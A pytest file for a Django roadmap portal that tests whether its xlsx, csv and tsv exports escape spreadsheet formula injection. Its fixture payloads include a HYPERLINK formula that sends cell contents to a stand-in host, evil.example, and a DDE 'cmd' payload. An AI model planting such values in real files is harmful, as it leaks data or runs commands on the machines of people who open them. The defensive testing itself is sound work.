"""Text that a spreadsheet would run as a formula stays text in every file the portal writes: the roadmap's
own .xlsx download, the admin's import-export xlsx/csv/tsv exports and the report builders — all through
config/spreadsheet_text.py."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from config.spreadsheet_text import escape_formula, is_formula_like
from tests import factories

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
PAYLOADS = [EVIL, "==1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_gets_the_apostrophe(text):
    assert is_formula_like(text)
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Провести семинар", "-5", "+7,5", "12.5", "", 5, None, 2.5])
def test_plain_text_and_numbers_are_left_alone(value):
    assert escape_formula(value) == value


@pytest.fixture
def evil_activity(world):
    return factories.ActivityFactory(
        roadmap=world.roadmap, number="1.9.", title=EVIL, goal_and_tasks="@SUM(A1:A9)", comment="-2+3"
    )


def test_roadmap_xlsx_download_keeps_a_formula_title_as_text(client, world, evil_activity):
    client.force_login(world.staff)
    response = client.get(reverse("roadmaps:roadmap-download", args=[world.roadmap.pk, "xlsx"]))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    cell = cells[EVIL]  # the text is kept as typed, so the file reads back the same
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert not any(cell.data_type == "f" for cell in cells.values())


def _admin_export(admin_client, model: str, file_format: str) -> bytes:
    url = reverse(f"admin:roadmaps_{model}_export")
    form = admin_client.get(url).context["form"]
    choice = next(value for value, label in form.fields["format"].choices if label == file_format)
    data = {"format": choice, "resource": "0"}
    data.update({name: "on" for name in form.fields if name.startswith(f"{model}resource_")})
    response = admin_client.post(url, data)
    assert response.status_code == 200, response.content[:300]
    return response.content


def test_admin_xlsx_export_writes_no_formula(admin_client, world, evil_activity):
    content = _admin_export(admin_client, "activity", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in values if cell.data_type == "f"]
    texts = {cell.value for cell in values}
    assert {"'" + EVIL, "'@SUM(A1:A9)", "'-2+3"} <= texts


@pytest.mark.parametrize(("file_format", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_admin_text_exports_escape_formulae(admin_client, world, evil_activity, file_format, delimiter):
    content = _admin_export(admin_client, "activity", file_format).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content), delimiter=delimiter))
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert not [cell for cell in cells if is_formula_like(cell)]


def test_admin_checkpoint_export_escapes_a_formula_result(admin_client, world):
    world.checkpoint.result = "=1+1"
    world.checkpoint.save(update_fields=["result"])
    content = _admin_export(admin_client, "checkpoint", "csv").decode("utf-8-sig")
    assert "'=1+1" in content
